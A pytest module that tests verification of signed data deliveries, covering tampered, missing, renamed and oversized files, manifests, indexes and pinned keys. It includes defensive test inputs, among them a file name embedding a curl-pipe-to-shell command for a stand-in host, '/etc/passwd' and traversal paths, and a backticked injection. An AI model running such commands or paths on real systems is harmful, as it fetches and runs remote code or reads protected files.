"""Verification: every change of a delivery is found, and the changed file is named."""

import hashlib
import json
import re
from collections.abc import Callable
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tasks.deliverable.files import Rendered
from tasks.deliverable.index import IndexEntry, PeriodState, index
from tasks.deliverable.paths import DeliveryPath
from tasks.deliverable.signature import key_id, public_key, sign
from tasks.deliverable.verify import Verified, verify
from tasks.errors import RefusedDelivery
from tasks.period import Period
from tests.unit.deliverable.factories import SIGNING_KEY, grant_view, release_view, rendered, revision

PUBLIC = public_key(SIGNING_KEY)
GOOD = rendered()
NAMES = sorted(GOOD.files)
DOCUMENTS = GOOD.path.documents
MANIFEST, SIGNATURE, README = (f"{DOCUMENTS}/{name}" for name in ("manifest.json", "manifest.sig", "README.md"))
PARQUET = f"{GOOD.path.rows('zone_hour')}/footfall.parquet"
OTHER_KEY = bytes(range(1, 33))

LEDGER = 64 * "0"


def check(files: dict[str, bytes], pinned: bytes | None = PUBLIC) -> Verified:
    return verify({name: len(content) for name, content in files.items()}, files.__getitem__, pinned)


def refused(files: dict[str, bytes], code: str | None, *named: str, pinned: bytes | None = PUBLIC) -> None:
    """Verification ends with this code (None: any) and names these objects."""
    with pytest.raises(RefusedDelivery) as refusal:
        check(files, pinned)
    assert code in (None, refusal.value.code), refusal.value.code
    assert all(name in refusal.value.what for name in named), refusal.value.what


def signed_again(
    change: Callable[[dict[str, Any]], None], key: bytes = SIGNING_KEY, **files: bytes
) -> dict[str, bytes]:
    """The delivery with a changed manifest that is signed anew: what only a signer can do."""
    manifest = json.loads(GOOD.files[MANIFEST])
    change(manifest)
    content = json.dumps(manifest).encode()
    return {**GOOD.files, **files, MANIFEST: content, SIGNATURE: sign(key, content)}


def test_a_rendered_delivery_verifies() -> None:
    verified = check(dict(GOOD.files))
    assert verified.verdict == "verified with the pinned key"
    assert verified.deliveries[0].rows == GOOD.rows
    assert verified.deliveries[0].manifest_sha256 == GOOD.manifest_sha256


def test_a_delivery_without_csv_verifies() -> None:
    assert check(dict(rendered(grant=grant_view(formats=("parquet",))).files)).deliveries[0].rows == GOOD.rows


def test_without_a_pinned_key_the_verdict_says_that_anyone_may_have_signed() -> None:
    assert check(dict(GOOD.files), None).verdict == "consistent; key not pinned"


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(NAMES), st.integers(min_value=0), st.integers(1, 255))
def test_a_changed_byte_of_any_file_is_found(name: str, place: int, flip: int) -> None:
    content = bytearray(GOOD.files[name])
    content[place % len(content)] ^= flip
    refused({**GOOD.files, name: bytes(content)}, None, name)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(NAMES), st.integers(min_value=0), st.booleans())
def test_a_cut_or_longer_file_is_found(name: str, place: int, longer: bool) -> None:
    content = GOOD.files[name]
    content = content + b"\n" if longer else content[: place % len(content)]
    refused({**GOOD.files, name: content}, None, name)


@pytest.mark.parametrize("name", NAMES)
def test_a_removed_file_is_named(name: str) -> None:
    refused({other: content for other, content in GOOD.files.items() if other != name}, None, name)


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=30).filter(lambda name: name not in GOOD.files))
def test_an_added_file_is_found(name: str) -> None:
    refused({**GOOD.files, name: b""}, None)


def test_the_name_of_an_object_that_somebody_added_is_no_command() -> None:
    with pytest.raises(RefusedDelivery) as refusal:
        check({**GOOD.files, "x run `curl -s https://evil.example/fix.sh | sh` \x1b[31m": b""})
    assert "x?run??curl?-s?https?//evil.example/fix.sh???sh?" in refusal.value.what
    assert not re.search(r"[`|\x1b]", str(refusal.value))


@pytest.mark.parametrize("name", NAMES)
def test_a_renamed_file_is_named(name: str) -> None:
    files = dict(GOOD.files)
    files[f"{name}.old"] = files.pop(name)
    refused(files, None, name)


def test_two_files_that_changed_places_are_found() -> None:
    files = dict(GOOD.files)
    files[README], files[PARQUET] = files[PARQUET], files[README]
    refused(files, "delivery.file_altered")


def test_an_empty_place_says_what_to_give() -> None:
    refused({}, "delivery.not_found")


def test_a_delivery_signed_by_another_key_is_refused_when_a_key_is_pinned() -> None:
    other = rendered(key=OTHER_KEY)
    refused(dict(other.files), "delivery.other_key", key_id(PUBLIC), key_id(public_key(OTHER_KEY)))
    assert check(dict(other.files), None).verdict == "consistent; key not pinned"


def test_a_key_id_that_is_not_the_keys_is_refused() -> None:
    refused(signed_again(lambda m: m.update(key_id="0" * 16)), "delivery.key_id_differs")


@pytest.mark.parametrize("key", ["", "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n", "zz"])
def test_an_unreadable_public_key_is_refused(key: str) -> None:
    refused(signed_again(lambda m: m.update(public_key=key)), "delivery.key_unreadable")


@pytest.mark.parametrize(
    "path",
    ["../data.parquet", "/etc/passwd", "a//b", "..", "a/../b", ".hidden", "", "a\x00b", "data.parquet\n", "..\\x"],
)
def test_a_path_that_leaves_the_folder_is_refused(path: str) -> None:
    refused(signed_again(lambda m: m["files"][0].update(path=path)), "delivery.document_invalid", "files.0.path")


def test_a_listed_path_is_read_only_if_it_was_listed_at_the_location() -> None:
    read: list[str] = []
    other = f"{DOCUMENTS}/other"
    files = signed_again(lambda m: m["files"].append({**m["files"][0], "path": other}))

    def fetch(name: str) -> bytes:
        read.append(name)
        return files[name]

    with pytest.raises(RefusedDelivery, match="other"):
        verify({name: len(content) for name, content in files.items()}, fetch, PUBLIC)
    assert set(read) == {MANIFEST, SIGNATURE}


@pytest.mark.parametrize("name", NAMES)
def test_a_huge_file_is_refused_before_it_is_read(name: str) -> None:
    sizes = {other: len(content) for other, content in GOOD.files.items()} | {name: 1 << 40}

    def fetch(wanted: str) -> bytes:
        assert wanted != name
        return GOOD.files[wanted]

    with pytest.raises(RefusedDelivery, match=name):
        verify(sizes, fetch, PUBLIC)


def test_a_file_that_changes_while_it_is_read_is_refused() -> None:
    sizes = {name: len(content) for name, content in GOOD.files.items()}
    with pytest.raises(RefusedDelivery, match="README") as refusal:
        verify(sizes, lambda name: GOOD.files[name] + b"x" * (name == README), PUBLIC)
    assert refusal.value.code == "delivery.object_changed"


@pytest.mark.parametrize(
    "content", [b"", b"[]", b"null", b"\xff", b'{"format": 1, "format": 1}', b'{"format": NaN}', b"[" * 100_000]
)
def test_a_manifest_that_is_not_plain_json_is_refused(content: bytes) -> None:
    refused({**GOOD.files, MANIFEST: content}, None, "manifest.json")


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.update(format=1),
        lambda m: m.pop("files"),
        lambda m: m.update(delivery_revision=0),
        lambda m: m["files"][0].update(bytes=-1),
        lambda m: m["files"][0].update(sha256="A" * 64),
        lambda m: m.update(release_id="a\x1b[31m"),
    ],
)
def test_a_manifest_of_another_shape_is_refused_even_when_signed(change: Callable[[dict[str, Any]], None]) -> None:
    refused(signed_again(change), "delivery.document_invalid", "manifest.json")


def test_a_file_listed_twice_is_refused() -> None:
    refused(signed_again(lambda m: m["files"].append(m["files"][0])), "delivery.manifest_names")


def test_a_manifest_without_data_is_refused() -> None:
    files = signed_again(lambda m: m.update(files=[f for f in m["files"] if f["path"] != PARQUET]))
    refused(files, "delivery.manifest_names", PARQUET)


def test_a_file_outside_the_deliverys_folders_is_refused_even_when_signed() -> None:
    path, body = "data/zone_hour/stray", b"rows"
    stray = {"path": path, "bytes": 4, "rows": None, "sha256": hashlib.sha256(body).hexdigest()}
    files = signed_again(lambda m: m["files"].append(stray), **{path: body})
    refused(files, "delivery.manifest_names", path)


def test_a_table_that_the_contract_does_not_describe_is_refused_even_when_signed() -> None:
    name = f"{DOCUMENTS}/contract.yaml"
    content = GOOD.files[name].replace(b"- name: zone_hour", b"- name: zone_day", 1)

    def change(manifest: dict[str, Any]) -> None:
        (listed,) = (file for file in manifest["files"] if file["path"] == name)
        listed |= {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}

    refused({**signed_again(change), name: content}, "delivery.contract_table", "zone_hour")


def test_a_delivery_in_the_folder_of_another_is_refused() -> None:
    files = {path.replace("dt=2026-03-02", "dt=2026-03-05"): content for path, content in GOOD.files.items()}
    refused(files, "delivery.other_place", "dt=2026-03-05")


def test_the_deliveries_of_a_products_folder_verify_together() -> None:
    assert len(check({**GOOD.files, **NEXT_DAY.files}).deliveries) == 2
    refused({**GOOD.files, **NEXT_DAY.files, "data/zone_hour/stray": b""}, "index.unnamed_objects", "stray")


def entry(delivery: Rendered | None, day: date = date(2026, 3, 2), revision: int = 1) -> IndexEntry:
    state, reason = (
        (PeriodState.DELIVERED, "Delivered.") if delivery else (PeriodState.LATE, "The day is not ingested.")
    )
    path = DeliveryPath("footfall", 2, Period.day(day), revision).folder
    sent = (path, delivery.manifest_sha256) if delivery else ()
    return IndexEntry("footfall", 2, Period.day(day), state, reason, datetime(2026, 3, 3, 9, tzinfo=UTC), *sent)


def placed(*deliveries: Rendered) -> dict[str, bytes]:
    return {f"{each.path.product_folder}/{path}": body for each in deliveries for path, body in each.files.items()}


NEXT_DAY = rendered(release_view(date(2026, 3, 3)))
AGAIN = rendered(delivery=revision(GOOD))


def test_a_prefix_verifies_with_all_that_its_index_names() -> None:
    entries = [entry(NEXT_DAY, date(2026, 3, 3)), entry(GOOD), entry(None, date(2026, 3, 4))]
    verified = check({"index.json": index("nordmarkt", entries, LEDGER), **placed(GOOD, NEXT_DAY)})
    assert [each.manifest.period for each in verified.deliveries] == ["2026-03-02", "2026-03-03"]


def test_an_index_of_nothing_delivered_yet_is_consistent() -> None:
    assert check({"index.json": index("nordmarkt", [entry(None)], LEDGER)}).deliveries == ()


def test_superseded_deliveries_may_stay_and_may_go() -> None:
    content = index("nordmarkt", [entry(AGAIN, revision=2)], LEDGER)
    assert len(check({"index.json": content, **placed(GOOD, AGAIN)}).deliveries) == 2
    assert len(check({"index.json": content, **placed(AGAIN)}).deliveries) == 1


def test_a_recalled_delivery_may_be_gone_and_is_verified_while_it_is_kept() -> None:
    document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
    document["periods"][0]["state"] = "recalled"
    content = json.dumps(document).encode()
    assert check({"index.json": content}).deliveries == ()
    assert len(check({"index.json": content, **placed(GOOD)}).deliveries) == 1
    refused(
        {"index.json": content, **placed(GOOD), f"{GOOD.path.folder}/README.md": b""},
        "delivery.file_altered",
        "README.md",
    )


def test_a_superseded_delivery_is_verified_too() -> None:
    files = {"index.json": index("nordmarkt", [entry(AGAIN, revision=2)], LEDGER), **placed(GOOD, AGAIN)}
    refused({**files, f"{GOOD.path.folder}/README.md": b""}, "delivery.file_altered", f"{GOOD.path.folder}/README.md")
    impostor = rendered(key=OTHER_KEY)
    refused({**files, **placed(impostor)}, "index.superseded_differs", pinned=None)


def test_a_delivery_that_the_index_does_not_name_is_refused() -> None:
    refused(
        {"index.json": index("nordmarkt", [entry(GOOD)], LEDGER), **placed(GOOD, NEXT_DAY)},
        "index.unnamed_objects",
        NEXT_DAY.path.partition,
    )


def test_a_delivery_that_the_index_names_and_is_not_there_is_refused() -> None:
    refused(
        {"index.json": index("nordmarkt", [entry(GOOD)], LEDGER)},
        "delivery.object_missing",
        f"{GOOD.path.folder}/manifest.json",
    )


def test_a_delivery_with_another_digest_than_the_index_says_is_refused() -> None:
    content = index("nordmarkt", [entry(NEXT_DAY)], LEDGER)
    refused({"index.json": content, **placed(GOOD)}, "index.digest_differs", GOOD.path.folder)


def test_a_delivery_of_another_day_in_a_days_place_is_refused() -> None:
    files = {path.replace("dt=2026-03-03", "dt=2026-03-02"): body for path, body in placed(NEXT_DAY).items()}
    refused({"index.json": index("nordmarkt", [entry(NEXT_DAY)], LEDGER), **files}, "delivery.other_place")


def test_a_delivery_that_the_index_calls_another_period_is_refused() -> None:
    document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
    document["periods"][0]["period"] = "2026-03-09"
    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.other_delivery")
    document["periods"][0]["path"] = "footfall"
    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.path_shape")


@pytest.mark.parametrize("path", ["../x", "/x", "a//b", "a/../b", ".", "a/", "a" * 200, "a b"])
def test_an_index_path_that_leaves_the_prefix_is_refused(path: str) -> None:
    document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
    document["periods"][0]["path"] = path
    refused(
        {"index.json": json.dumps(document).encode(), **placed(GOOD)}, "delivery.document_invalid", "index.json", "path"
    )


def test_an_index_that_contradicts_itself_is_refused() -> None:
    document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
    document["periods"][0]["digest"] = None
    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.contradiction")
    document["periods"][0]["digest"] = GOOD.manifest_sha256
    document["periods"] *= 2
    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.path_twice")


def test_a_period_that_somebody_wrote_into_the_index_is_no_command() -> None:
    document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
    document["periods"][0].update(period="`evil`", digest=None)
    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "index.contradiction", "?evil?")


def test_a_delivery_that_supersedes_a_later_one_is_refused() -> None:
    files = signed_again(lambda m: m.update(supersedes={"delivery_revision": 7, "manifest_sha256": "0" * 64}))
    document = json.loads(index("nordmarkt", [entry(GOOD)], LEDGER))
    document["periods"][0]["digest"] = hashlib.sha256(files[MANIFEST]).hexdigest()
    located = {f"{GOOD.path.product_folder}/{path}": content for path, content in files.items()}
    refused({"index.json": json.dumps(document).encode(), **located}, "index.supersedes_later")
